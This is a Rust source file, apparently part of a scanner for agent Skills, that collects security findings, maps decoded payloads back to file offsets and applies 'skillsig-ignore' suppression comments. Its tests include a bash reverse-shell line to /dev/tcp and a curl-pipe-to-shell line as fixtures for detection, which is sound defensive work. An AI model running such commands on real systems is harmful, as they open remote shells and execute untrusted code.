//! Collecting findings for one file: turning byte offsets into lines, columns and snippets,
//! mapping findings inside decoded payloads back to where the payload sits, and applying
//! `skillsig-ignore: RULE-ID reason` comments.

use super::finding::{Capability, Finding, FlowSource, Severity};
use super::rules;

/// How many findings one file may produce; the rest are counted, not kept.
const MAX_FINDINGS_PER_FILE: usize = 500;

/// The findings of one file under construction.
pub(crate) struct Sink<'a> {
    file: &'a str,
    text: &'a str,
    /// Offsets where lines start, computed at the first finding (most files have none).
    line_starts: std::cell::OnceCell<Vec<usize>>,
    findings: Vec<Finding>,
    /// (rule, line, column, message) of every kept finding, to drop repeats in O(1).
    seen: foldhash::HashSet<(rules::RuleId, usize, usize, String)>,
    /// While scanning text that is not a substring of the file (decoded payloads, command lists
    /// joined into a string): where it came from in `text`, and how it was derived.
    decoded: Vec<(usize, &'static str)>,
    dropped: usize,
    /// Facts about the whole file, for rules that combine them.
    credential_at: Option<usize>,
    env_dump_at: Option<usize>,
    network: bool,
    /// The shell analyser, for text that turns into commands (a decoded payload, a line written
    /// into a crontab): handed down by the scan's entry point so that the text helpers, which
    /// the shell analyser uses, need not import it back.
    shell: Option<ShellScanner>,
    /// What the Skill says about itself (its name, homepage, stated purpose).
    skill: &'a SkillContext,
    /// Whether the file is documentation (markdown) rather than a shipped script.
    docs: bool,
    /// Findings lowered as quoted examples: what the file does as a whole does not raise them
    /// again.
    lowered: foldhash::HashSet<usize>,
}

/// What a Skill says about itself, for rules whose severity depends on whose the Skill is and
/// what it is for. Only ever used to weigh documentation: a Skill's claims never lower a
/// finding in its shipped code.
#[derive(Debug, Default)]
pub(crate) struct SkillContext {
    /// The Skill's name (frontmatter or `skillsig.toml`).
    pub name: Option<String>,
    /// The frontmatter's `homepage`.
    pub homepage: Option<String>,
    /// Whether the name or description says the Skill does security work (auditing, scanning,
    /// detection), so that its documentation may quote attacks.
    pub security_purpose: bool,
    /// Markdown files (paths as written) that a step of `SKILL.md` tells the reader to run or
    /// follow: their quoted examples are not lowered.
    pub told_to_run: Vec<String>,
}

/// The context of a file scanned on its own (no Skill around it).
static NO_SKILL: SkillContext = SkillContext {
    name: None,
    homepage: None,
    security_purpose: false,
    told_to_run: Vec::new(),
};

/// The shell analyser's entry: (source, offset of `source` in the file, sink, nesting depth)
/// → whether it parsed completely.
pub(crate) type ShellScanner = for<'s, 't> fn(&'s str, usize, &mut Sink<'t>, u8) -> bool;

impl<'a> Sink<'a> {
    pub fn new(file: &'a str, text: &'a str) -> Sink<'a> {
        Sink {
            file,
            text,
            line_starts: std::cell::OnceCell::new(),
            findings: Vec::new(),
            seen: foldhash::HashSet::default(),
            decoded: Vec::new(),
            dropped: 0,
            credential_at: None,
            env_dump_at: None,
            network: false,
            shell: None,
            skill: &NO_SKILL,
            docs: false,
            lowered: foldhash::HashSet::default(),
        }
    }

    /// This sink scans a file of the Skill described by `skill`.
    pub fn with_skill(mut self, skill: &'a SkillContext) -> Sink<'a> {
        self.skill = skill;
        self
    }

    /// This sink scans documentation (markdown read by the agent or the user), not a shipped
    /// script.
    pub fn for_docs(mut self) -> Sink<'a> {
        self.docs = true;
        self
    }

    /// What the Skill says about itself.
    pub fn skill(&self) -> &SkillContext {
        self.skill
    }

    /// Whether the file is documentation rather than a shipped script.
    pub fn in_docs(&self) -> bool {
        self.docs
    }

    /// This sink scans text that turns into commands with `shell`.
    pub fn with_shell(mut self, shell: ShellScanner) -> Sink<'a> {
        self.shell = Some(shell);
        self
    }

    /// Scans `source` as shell commands, when this sink was given the shell analyser.
    pub fn scan_as_shell(&mut self, source: &str, base: usize, nesting: u8) -> bool {
        match self.shell {
            Some(shell) => shell(source, base, self, nesting),
            None => false,
        }
    }

    fn origin(&self, offset: usize) -> usize {
        self.decoded.first().map_or(offset, |&(origin, _)| origin)
    }

    /// The file touches credentials at `offset`.
    pub fn note_credential(&mut self, offset: usize) {
        let at = self.origin(offset);
        self.credential_at.get_or_insert(at);
    }

    /// The file dumps the environment at `offset`.
    pub fn note_env_dump(&mut self, offset: usize) {
        let at = self.origin(offset);
        self.env_dump_at.get_or_insert(at);
    }

    /// The file uses the network.
    pub fn note_network(&mut self) {
        self.network = true;
    }

    /// Whether the file uses the network (as far as the analysers saw).
    pub fn uses_network(&self) -> bool {
        self.network
    }

    /// Rules about the file as a whole: secrets and the network together; downloads run and
    /// persistence escalated by what else the file does.
    pub fn conclude(&mut self) {
        let aggravating = self.findings.iter().any(|f| {
            [
                rules::EVADE_QUARANTINE,
                rules::ARCHIVE_PASSWORD_EXTRACT,
                rules::ARCHIVE_PASSWORD_INSTRUCTIONS,
                rules::OBF_ENCODED_PAYLOAD,
                rules::PROMPT_CONCEAL,
                rules::HIDDEN_TAG_CHARACTERS,
                rules::HIDDEN_BIDI,
                rules::EXEC_DECODE_AND_RUN,
                rules::EXEC_PIPE_TO_SHELL_RAW,
                rules::NET_REVERSE_SHELL,
                rules::EXEC_REMOTE_CODE,
            ]
            .contains(&f.rule)
                && f.severity >= Severity::High
        });
        let runs_downloads = self.findings.iter().any(|f| {
            f.rule.is_code_execution()
                && f.rule != rules::EXEC_PIPE_TO_SHELL_KNOWN
                && f.rule != rules::EXEC_COMPUTED_SHELL
        });
        for (index, finding) in self.findings.iter_mut().enumerate() {
            if self.lowered.contains(&index) {
                continue;
            }
            if finding.rule == rules::EXEC_PIPE_TO_SHELL
                && aggravating
                && finding.severity < Severity::High
            {
                finding.severity = Severity::High;
                finding
                    .message
                    .push_str("; high because the same file also hides or disguises what it does");
            }
            if finding.rule == rules::PERSISTENCE
                && finding.severity < Severity::High
                && (runs_downloads || aggravating)
            {
                finding.severity = Severity::High;
                finding
                    .message
                    .push_str("; high because the same file also downloads and runs code");
            }
        }
        // Co-occurrence is only a pointer for review: moot when a flow was proven.
        if !self.network
            || self
                .findings
                .iter()
                .any(|f| f.rule == rules::CRED_EXFILTRATION)
        {
            return;
        }
        let saved = std::mem::take(&mut self.decoded);
        if let Some(at) = self.credential_at {
            self.emit_with(
                rules::CRED_EXFILTRATION,
                Severity::Medium,
                at,
                "reads credentials and uses the network in the same file (no flow between them was found)",
                None,
            );
        } else if let Some(at) = self.env_dump_at {
            self.emit_with(
                rules::CRED_EXFILTRATION,
                Severity::Medium,
                at,
                "dumps the environment and uses the network in the same file (no flow between them was found)",
                None,
            );
        }
        self.decoded = saved;
    }

    /// Runs `scan` over text derived from the file at `offset` (a list joined into a command);
    /// its findings point at `offset`, without a note.
    pub fn with_origin(&mut self, offset: usize, scan: impl FnOnce(&mut Sink<'a>)) {
        self.decoded.push((offset, ""));
        scan(self);
        self.decoded.pop();
    }

    /// How many derived texts (decoded, joined, persisted) deep the current scan is.
    pub fn nesting(&self) -> usize {
        self.decoded.len()
    }

    /// How many findings are kept so far.
    pub fn count(&self) -> usize {
        self.findings.len()
    }

    /// The findings kept since there were `first`.
    pub fn findings_from(&self, first: usize) -> &[Finding] {
        self.findings.get(first..).unwrap_or(&[])
    }

    /// Lowers every blocking finding kept since there were `first` to `to`, saying `why`: for
    /// attack text a security Skill's documentation quotes as an example.
    pub fn lower_from(&mut self, first: usize, to: Severity, why: &str) {
        for (index, finding) in self.findings.iter_mut().enumerate().skip(first) {
            self.lowered.insert(index);
            if finding.severity > to {
                finding.severity = to;
                finding.message.push_str("; lowered: ");
                finding.message.push_str(why);
            }
        }
    }

    /// The path of the file being scanned, relative to the Skill.
    pub fn file(&self) -> &str {
        self.file
    }

    /// How many decoding layers deep the current scan is.
    pub fn decode_depth(&self) -> usize {
        self.decoded.iter().filter(|(_, e)| !e.is_empty()).count()
    }

    /// Runs `scan` over text decoded from the blob at `offset`; its findings point at the blob.
    pub fn with_decoded(
        &mut self,
        offset: usize,
        encoding: &'static str,
        scan: impl FnOnce(&mut Sink<'a>),
    ) {
        self.decoded.push((offset, encoding));
        scan(self);
        self.decoded.pop();
    }

    /// Reports a finding of `rule` at byte `offset` of the file (or of the decoded text).
    pub fn emit(
        &mut self,
        rule: rules::RuleId,
        offset: usize,
        message: impl Into<String>,
        value: Option<String>,
    ) {
        self.emit_with(rule, rule.severity(), offset, message, value);
    }

    /// Like [`Sink::emit`] with an explicit severity (for rules whose severity depends on context).
    pub fn emit_with(
        &mut self,
        rule: rules::RuleId,
        severity: Severity,
        offset: usize,
        message: impl Into<String>,
        value: Option<String>,
    ) {
        let meta = rule.rule();
        let (offset, mut message) = match self.decoded.first() {
            Some(&(origin, _)) => {
                let chain: Vec<&str> = self
                    .decoded
                    .iter()
                    .map(|(_, e)| *e)
                    .filter(|e| !e.is_empty())
                    .collect();
                let message = message.into();
                if chain.is_empty() {
                    (origin, message)
                } else {
                    (
                        origin,
                        format!("{message} (in {}-decoded text)", chain.join("-then-")),
                    )
                }
            }
            None => (offset, message.into()),
        };
        if message.is_empty() {
            message = meta.title.to_owned();
        }
        let (line_index, column) = self.place(offset);
        if self.findings.len() >= MAX_FINDINGS_PER_FILE {
            self.dropped += 1;
            return;
        }
        if !self
            .seen
            .insert((rule, line_index + 1, column, message.clone()))
        {
            return;
        }
        let capability = meta.capability.map(|kind| Capability { kind, value });
        let finding = Finding {
            rule,
            severity,
            capability,
            file: self.file.to_owned(),
            line: line_index + 1,
            column,
            snippet: snippet(self.line_text(line_index)),
            message,
            suppressed: None,
            source: None,
        };
        self.findings.push(finding);
    }

    /// Reports a flow: what was read at byte `source_at` (`what`) reaches the sink at `offset`.
    /// The source is kept when it is a place in the file (not in decoded text).
    pub fn emit_flow(
        &mut self,
        rule: rules::RuleId,
        offset: usize,
        source_at: usize,
        what: &str,
        message: impl Into<String>,
        value: Option<String>,
    ) {
        let severity = rule.severity();
        self.emit_flow_with(rule, severity, offset, source_at, what, message, value);
    }

    /// Like [`Sink::emit_flow`] with an explicit severity.
    #[allow(clippy::too_many_arguments)]
    pub fn emit_flow_with(
        &mut self,
        rule: rules::RuleId,
        severity: Severity,
        offset: usize,
        source_at: usize,
        what: &str,
        message: impl Into<String>,
        value: Option<String>,
    ) {
        let before = self.findings.len();
        self.emit_with(rule, severity, offset, message, value);
        if self.findings.len() == before || self.line_of(source_at).is_none() {
            return;
        }
        let (line_index, column) = self.place(source_at);
        let source = FlowSource {
            line: line_index + 1,
            column,
            snippet: snippet(self.line_text(line_index)),
            what: what.to_owned(),
        };
        if let Some(finding) = self.findings.last_mut() {
            finding.source = Some(source);
        }
    }

    /// The file takes only the Skill's own entry (`own`) out of the agent's store `store`: its
    /// reads of the store are how it gets its token, not theft, so they are medium. A flow of
    /// the whole store elsewhere in the file is reported on its own and still blocks.
    pub fn lower_own_entry_reads(&mut self, store: &str, own: &str) {
        for finding in &mut self.findings {
            if finding.rule == rules::CRED_SENSITIVE_PATH
                && finding.severity == Severity::High
                && finding.message.contains(store)
            {
                finding.severity = Severity::Medium;
                finding.message.push_str(&format!(
                    "; medium: the file takes only its own entry ({own}) out of it"
                ));
            }
        }
    }

    /// A call of `name` at `at` that connects to `host` (unknown: `*`), with the arguments at
    /// `whole_env` carrying the whole environment out.
    pub fn network_call(
        &mut self,
        name: &str,
        at: usize,
        host: Option<String>,
        whole_env: &[usize],
    ) {
        let value = host.unwrap_or_else(|| "*".into());
        self.emit(
            rules::USES_NETWORK,
            at,
            format!("{name} connects to {value}"),
            Some(value),
        );
        for &arg in whole_env {
            self.emit(
                rules::ENV_DUMP,
                arg,
                "sends the whole environment over the network",
                Some("*".into()),
            );
            self.note_env_dump(arg);
        }
    }

    /// Whether a finding of `rule` is already reported on the line of byte `offset` (an
    /// analyser's own rule saw what a flow proves again).
    pub fn reported_on_line(&self, rule: rules::RuleId, offset: usize) -> bool {
        let Some(line) = self.line_of(offset) else {
            return false;
        };
        self.findings
            .iter()
            .any(|f| f.rule == rule && f.line == line)
    }

    /// The 0-based line and 1-based character column of byte `offset` (clamped to the text).
    fn place(&self, offset: usize) -> (usize, usize) {
        let offset = offset.min(self.text.len());
        let line_index = self.line_starts().partition_point(|&start| start <= offset) - 1;
        let line_start = self.line_starts()[line_index];
        let mut col_offset = offset;
        while !self.text.is_char_boundary(col_offset) {
            col_offset -= 1;
        }
        (
            line_index,
            self.text[line_start..col_offset].chars().count() + 1,
        )
    }

    /// The line of byte `offset` of the file, when the scan is not inside derived text (where
    /// offsets are not the file's).
    pub fn line_of(&self, offset: usize) -> Option<usize> {
        if !self.decoded.is_empty() || offset > self.text.len() {
            return None;
        }
        Some(self.line_starts().partition_point(|&start| start <= offset))
    }

    fn line_starts(&self) -> &[usize] {
        self.line_starts.get_or_init(|| {
            let mut starts = vec![0];
            starts.extend(memchr::memchr_iter(b'\n', self.text.as_bytes()).map(|i| i + 1));
            starts
        })
    }

    fn line_text(&self, index: usize) -> &str {
        let start = self.line_starts()[index];
        let end = self
            .line_starts()
            .get(index + 1)
            .map_or(self.text.len(), |&e| e - 1);
        &self.text[start..end.max(start)]
    }

    /// The findings, with suppressions applied, and how many were dropped over the cap.
    pub fn finish(mut self) -> (Vec<Finding>, usize) {
        let suppressions = parse_suppressions(self.text);
        for finding in &mut self.findings {
            if finding.severity == Severity::Critical {
                continue;
            }
            if let Some((_, _, reason)) = suppressions.iter().find(|(line, id, _)| {
                (*line == finding.line || *line + 1 == finding.line) && *id == finding.rule
            }) {
                finding.suppressed = Some(reason.clone());
            }
        }
        (self.findings, self.dropped)
    }
}

/// A line shortened for display: trimmed, at most 160 characters.
fn snippet(line: &str) -> String {
    let trimmed = line.trim();
    if trimmed.chars().count() <= 160 {
        trimmed.to_owned()
    } else {
        let cut: String = trimmed.chars().take(157).collect();
        format!("{cut}...")
    }
}

/// `skillsig-ignore: SK-A-001[,SK-B-002] reason` anywhere on a line: (line, rule id, reason).
/// It applies to findings on that line and the next. Critical findings cannot be suppressed.
fn parse_suppressions(text: &str) -> Vec<(usize, rules::RuleId, String)> {
    const MARK: &str = "skillsig-ignore:";
    let mut out = Vec::new();
    if memchr::memmem::find(text.as_bytes(), MARK.as_bytes()).is_none() {
        return out;
    }
    for (index, line) in text.lines().enumerate() {
        let Some(at) = line.find(MARK) else { continue };
        let rest = line[at + MARK.len()..].trim();
        let (ids, reason) = rest.split_once(char::is_whitespace).unwrap_or((rest, ""));
        let reason = reason
            .trim()
            .trim_end_matches("-->")
            .trim_end_matches("*/")
            .trim();
        let reason = if reason.is_empty() {
            "no reason given".to_owned()
        } else {
            reason.to_owned()
        };
        for id in ids.split(',').filter_map(rules::RuleId::parse) {
            out.push((index + 1, id, reason.clone()));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn positions_snippets_and_suppressions() {
        let text = "first\n  curl x | sh  # skillsig-ignore: SK-EXEC-001 vendor installer, pinned\nthird é line\n";
        let mut sink = Sink::new("run.sh", text);
        sink.emit(
            rules::EXEC_PIPE_TO_SHELL,
            text.find("curl").unwrap(),
            "m",
            None,
        );
        sink.emit(
            rules::USES_EXEC,
            text.find("line").unwrap(),
            "",
            Some("x".into()),
        );
        let (findings, dropped) = sink.finish();
        assert_eq!(dropped, 0);
        assert_eq!((findings[0].line, findings[0].column), (2, 3));
        assert_eq!(
            findings[0].suppressed.as_deref(),
            Some("vendor installer, pinned")
        );
        assert_eq!((findings[1].line, findings[1].column), (3, 9));
        assert_eq!(findings[1].snippet, "third é line");
        assert_eq!(findings[1].message, "Runs a program");
        assert!(findings[1].suppressed.is_none());
    }

    #[test]
    fn critical_findings_cannot_be_suppressed() {
        let text = "# skillsig-ignore: SK-NET-001 testing\nbash -i >& /dev/tcp/1.2.3.4/4444 0>&1\n";
        let mut sink = Sink::new("x.sh", text);
        sink.emit(rules::NET_REVERSE_SHELL, 40, "m", None);
        assert!(sink.finish().0[0].suppressed.is_none());
    }

    #[test]
    fn decoded_findings_point_at_the_blob() {
        let text = "x = 'QUJD'\n";
        let mut sink = Sink::new("a.py", text);
        sink.with_decoded(4, "base64", |sink| {
            sink.emit(rules::EXEC_PIPE_TO_SHELL, 999, "pipe", None)
        });
        let (findings, _) = sink.finish();
        assert_eq!((findings[0].line, findings[0].column), (1, 5));
        assert!(findings[0].message.ends_with("(in base64-decoded text)"));
    }
}
